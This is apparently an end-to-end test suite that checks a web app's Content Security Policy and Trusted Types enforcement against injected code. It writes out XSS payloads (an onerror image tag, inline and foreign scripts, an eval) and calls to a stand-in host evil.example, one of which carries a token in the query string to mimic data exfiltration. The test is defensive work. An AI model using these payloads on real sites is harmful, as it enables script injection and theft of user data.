import { expect, type Page, type Stack, test } from '../fixtures'
import { openSignedIn } from '../signed-in'

const reportsIn = (logs: string): object[] =>
  logs
    .split('\n')
    .filter((line) => line.includes('"msg":"csp report"'))
    .map((line) => (JSON.parse(line) as { report: object }).report)

/** Attempts what hostile code would, and returns each outcome. */
const attack = (page: Page): Promise<Record<string, string>> =>
  page.evaluate(() => {
    const outcomes: Record<string, string> = {}
    const attempt = (name: string, action: () => unknown) => {
      try {
        action()
        outcomes[name] = 'succeeded'
      } catch (error) {
        outcomes[name] = (error as Error).name
      }
    }
    const addElement = (name: string, attributes: Record<string, string> = {}) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
      return element
    }
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
    }
    const evil = '<img src=x onerror="document.title=1">'
    attempt('innerHTML', () => Object.assign(addElement('div'), { innerHTML: evil }))
    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', evil))
    attempt('document.write', () => document.write(evil))
    attempt('inline script', () => addElement('script').append('document.title = 1'))
    attempt('script text', () => Object.assign(addElement('script'), { textContent: 'document.title = 1' }))
    attempt('script URL', () => addElement('script', { src: 'https://evil.example/x.js' }))
    attempt('handler', () => addElement('b', { onclick: 'document.title = 1' }))
    attempt('srcdoc', () => addElement('iframe', { srcdoc: evil }))
    attempt('timer', () => setTimeout('document.title = 1' as unknown as () => void))
    attempt('new policy', () => trustedTypes.createPolicy('evil', { createHTML: String }))
    attempt('worker', () => new Worker('https://evil.example/x.js'))
    attempt('picture', () => addElement('img', { src: 'https://evil.example/?token=1' }))
    attempt('style', () => addElement('b', { style: 'background: url(https://evil.example/)' }))
    attempt('style sheet', () =>
      addElement('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
    )
    attempt('frame', () => addElement('iframe', { src: 'https://evil.example/' }))
    attempt('plug-in', () => addElement('object', { data: 'https://evil.example/x' }))
    attempt('base', () => addElement('base', { href: 'https://evil.example/' }).remove())
    attempt('form', () => {
      ;(addElement('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement).submit()
    })
    fetch('https://evil.example/').catch(() => undefined)
    return outcomes
  })

/** Waits until the log has `count` more reports than `before`, and returns them. */
const reportsSince = async (stack: Stack, before: number, count: number): Promise<object[]> => {
  await expect.poll(() => reportsIn(stack.logs()).length - before, { timeout: 5_000 }).toBe(count)
  return reportsIn(stack.logs()).slice(before)
}

const trustedTypesSinks = [
  'Element innerHTML',
  'Element insertAdjacentHTML',
  'Document write',
  'HTMLScriptElement text',
  'HTMLScriptElement textContent',
  'HTMLScriptElement src',
  'Element onclick',
  'HTMLIFrameElement srcdoc',
  'Window setTimeout',
  'Worker constructor',
  'HTMLObjectElement data',
]
const otherDirectives = [
  'trusted-types',
  'style-src-attr',
  'style-src-elem',
  'base-uri',
  'connect-src',
  'img-src',
  'frame-src',
  'form-action',
]

test('the policy blocks hostile code and reports it without its data', async ({
  page,
  stack,
  violations,
}) => {
  await openSignedIn(page, 'ada')
  const title = await page.title()
  const before = reportsIn(stack.logs()).length
  const outcomes = await attack(page)
  expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'succeeded')).toEqual(
    // The policy blocks the load only after the element is in the page.
    ['inline script', 'picture', 'style', 'style sheet', 'frame', 'base', 'form'].map((name) => [
      name,
      'succeeded',
    ]),
  )
  const all = [
    ...trustedTypesSinks.map(() => 'require-trusted-types-for'),
    ...otherDirectives,
    'base-uri',
  ].sort()
  await expect.poll(() => violations.map(({ directive }) => directive).sort()).toEqual(all)
  expect(violations.filter(({ blocked }) => blocked === 'trusted-types-sink')).toHaveLength(
    trustedTypesSinks.length,
  )
  violations.length = 0
  await expect
    .poll(() => page.evaluate(() => [document.title, location.pathname]))
    .toEqual([title, '/dashboard/sell'])

  const reports = await reportsSince(stack, before, all.length)
  expect(reports).toEqual(
    expect.arrayContaining(trustedTypesSinks.map((sink) => expect.objectContaining({ sink }))),
  )
  expect(reports).toContainEqual({
    directive: 'img-src',
    blocked: 'https://evil.example',
    page: '/dashboard/sell',
  })
  expect(JSON.stringify(reports)).not.toMatch(/token|document\.title|onerror/)
})

test('injected inline, foreign and eval scripts do not run', async ({ page, stack, violations }) => {
  const before = reportsIn(stack.logs()).length
  await page.route('**/login', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(
      '</head>',
      `<script>document.documentElement.id = 'inline'</script>
       <script src="https://evil.example/x.js"></script><script src="/evil.js"></script></head>`,
    )
    await route.fulfill({ response, body })
  })
  await page.route('**/evil.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: "eval('document.documentElement.id = 1')" }),
  )
  await page.goto('/login')
  await expect(page.getByLabel('Username or email')).toBeVisible()
  expect(await page.locator('html').getAttribute('id')).toBeNull()
  await expect
    .poll(() => violations.map(({ directive, blocked }) => `${directive} ${blocked}`))
    .toEqual([
      'script-src-elem inline',
      'script-src-elem https://evil.example/x.js',
      'require-trusted-types-for trusted-types-sink',
    ])
  violations.splice(0)
  expect(await reportsSince(stack, before, 3)).toContainEqual({
    directive: 'script-src-elem',
    blocked: 'inline',
    page: '/login',
  })
})
